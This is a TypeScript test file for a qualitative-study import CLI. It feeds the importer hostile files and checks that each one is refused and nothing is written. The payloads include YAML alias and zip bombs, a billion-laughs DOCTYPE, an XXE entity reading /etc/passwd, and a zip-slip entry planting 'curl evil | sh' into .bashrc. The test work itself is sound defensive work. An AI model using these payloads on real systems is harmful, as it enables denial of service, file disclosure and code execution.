import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { crc32, deflateRawSync } from 'node:zlib';
import { createGraph, getStudy, type Graph } from '@iwa/graph';
import { testGraphConfig, uniqueStudyId } from '@iwa/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeStudyFolder } from './fixtures/make-study-folder.ts';
import { runIwa } from './run-cli.ts';

/*
 * Hostile files through the real `iwa study import`: each is refused with exit code 2 and a
 * clear message, quickly, and the database is unchanged (the study does not exist afterwards).
 * The readers' own hostile tests (packages/study, packages/refi) cover the details.
 */

let graph: Graph;
let env: Record<string, string>;
const temp = mkdtempSync(join(tmpdir(), 'iwa-hostile-cli-'));

beforeAll(() => {
  const config = testGraphConfig();
  graph = createGraph(config, { appName: 'iwa-hostile-tests' });
  env = {
    NEO4J_URI: config.uri,
    NEO4J_USER: config.user,
    NEO4J_PASSWORD: config.password ?? '',
    NEO4J_DATABASE: config.database,
  };
});
afterAll(async () => {
  await graph.close();
  rmSync(temp, { recursive: true, force: true });
});

/** A zip written byte by byte (stored or deflated), so hostile names and contents can be made. */
function zipOf(files: { name: string; data: Buffer; deflate?: boolean }[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const f of files) {
    const name = Buffer.from(f.name, 'utf8');
    const body = f.deflate ? deflateRawSync(f.data) : f.data;
    const method = f.deflate ? 8 : 0;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(crc32(f.data), 14);
    local.writeUInt32LE(body.length, 18);
    local.writeUInt32LE(f.data.length, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(crc32(f.data), 16);
    central.writeUInt32LE(body.length, 20);
    central.writeUInt32LE(f.data.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, body);
    centrals.push(central, name);
    offset += 30 + name.length + body.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(files.length, 8);
  end.writeUInt16LE(files.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

const GUID = '01234567-89ab-4cde-8f01-23456789abcd';
const SOURCE = '11234567-89ab-4cde-8f01-23456789abcd';
const TEXT = 'M02: We agreed on one shared routine 🚀 with Nav.\n';
const project = (prolog = '', inner = '') => `<?xml version="1.0" encoding="utf-8"?>
${prolog}<Project xmlns="urn:QDA-XML:project:1.0" name="hostile">
  <CodeBook><Codes><Code guid="${GUID}" name="Operational" isCodable="true"/></Codes></CodeBook>
  <Sources>
    <TextSource guid="${SOURCE}" name="M02" plainTextPath="internal://${SOURCE}.txt">${inner}
      <PlainTextSelection guid="21234567-89ab-4cde-8f01-23456789abcd" startPosition="5" endPosition="15"><Coding guid="31234567-89ab-4cde-8f01-23456789abcd"><CodeRef targetGUID="${GUID}"/></Coding></PlainTextSelection>
    </TextSource>
  </Sources>
</Project>`;
const qdpx = (qde: string, extra: { name: string; data: Buffer; deflate?: boolean }[] = []) =>
  zipOf([
    { name: 'project.qde', data: Buffer.from(qde) },
    { name: `sources/${SOURCE}.txt`, data: Buffer.from(TEXT) },
    ...extra,
  ]);
const BILLION_LAUGHS = `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('')}]>\n`;

/** A valid generated study folder with one file replaced. */
function folderWith(name: string, file: string, content: string | Buffer): string {
  const dir = join(temp, name);
  makeStudyFolder(dir, { studyId: 'hostile', interviews: 1 });
  mkdirSync(join(dir, 'codings'), { recursive: true });
  writeFileSync(join(dir, file), content);
  return dir;
}

const aliasBomb = [
  'a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]',
  ...Array.from({ length: 9 }, (_, i) => {
    const name = String.fromCharCode(98 + i);
    const prev = String.fromCharCode(97 + i);
    return `${name}: &${name} [${Array(9).fill(`*${prev}`).join(', ')}]`;
  }),
].join('\n');

const CASES: [string, () => string, RegExp][] = [
  [
    'a YAML alias bomb in codings.yaml',
    () => folderWith('alias', 'codings.yaml', aliasBomb),
    /aliases .* expand to too many nodes/,
  ],
  [
    'YAML nested 100 000 deep in study.yaml',
    () => folderWith('deep-yaml', 'study.yaml', '['.repeat(100_000)),
    /invalid YAML/,
  ],
  [
    'start/end that split a surrogate pair',
    () => {
      const dir = folderWith('split', 'codings/split.yaml', '');
      // A001's last answer ends with 🙂: start one UTF-16 unit into it
      const text = readFileSync(join(dir, 'transcripts', 'A001.txt'), 'utf8');
      const at = text.indexOf('🙂');
      writeFileSync(
        join(dir, 'codings', 'split.yaml'),
        `coder: kari\noffsets: { unit: utf16 }\ncodings:\n  - { document: A001, start: ${at + 1}, end: ${at + 2}, codes: [form.relational] }\n`,
      );
      return dir;
    },
    /falls inside a character/,
  ],
  [
    'invalid UTF-8 in study.yaml',
    () =>
      folderWith(
        'utf8',
        'study.yaml',
        Buffer.concat([Buffer.from('study: { id: x, name: "M'), Buffer.from([0xf8, 0x0a])]),
      ),
    /not valid UTF-8: byte 24 \(0xf8\)/,
  ],
  [
    'a .qdpx with a billion-laughs DOCTYPE',
    () => {
      const file = join(temp, 'laughs.qdpx');
      writeFileSync(file, qdpx(project(BILLION_LAUGHS)));
      return file;
    },
    /DOCTYPE/,
  ],
  [
    'a .qdpx with an external entity (XXE)',
    () => {
      const file = join(temp, 'xxe.qdpx');
      writeFileSync(
        file,
        qdpx(project('<!DOCTYPE p [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n')),
      );
      return file;
    },
    /DOCTYPE/,
  ],
  [
    'a .qdpx with a zip-slip entry',
    () => {
      const file = join(temp, 'slip.qdpx');
      writeFileSync(
        file,
        qdpx(project(), [{ name: '../../.bashrc', data: Buffer.from('curl evil | sh') }]),
      );
      return file;
    },
    /unsafe path/,
  ],
  [
    'a .qdpx zip bomb (100 MB of zeros, deflated)',
    () => {
      const file = join(temp, 'bomb.qdpx');
      writeFileSync(
        file,
        qdpx(project(), [
          { name: 'sources/bomb.txt', data: Buffer.alloc(100_000_000), deflate: true },
        ]),
      );
      return file;
    },
    /zip bomb|compressed/,
  ],
  [
    'a .qdpx whose XML nests 100 000 deep',
    () => {
      const file = join(temp, 'deep.qdpx');
      const inner = `${'<Description>'.repeat(100_000)}${'</Description>'.repeat(100_000)}`;
      writeFileSync(file, qdpx(project('', inner)));
      return file;
    },
    /nested more than 100 deep/,
  ],
];

describe('iwa study import refuses hostile files and writes nothing', () => {
  it.each(CASES)('%s', async (_name, make, message) => {
    const path = make();
    const studyId = uniqueStudyId('hostile');
    // a hang is killed after 60 s and then has no exit status (speed goals live in pnpm bench)
    const res = runIwa(['study', 'import', path, '--study', studyId], { env, timeoutMs: 60_000 });
    expect(res.stderr).toMatch(message);
    expect(res.stderr).toContain('nothing was written');
    expect(res.stderr).not.toMatch(/root:x:|curl evil/);
    expect(res.status).toBe(2);
    expect(await getStudy(graph, { studyId })).toBeUndefined();
  });
});
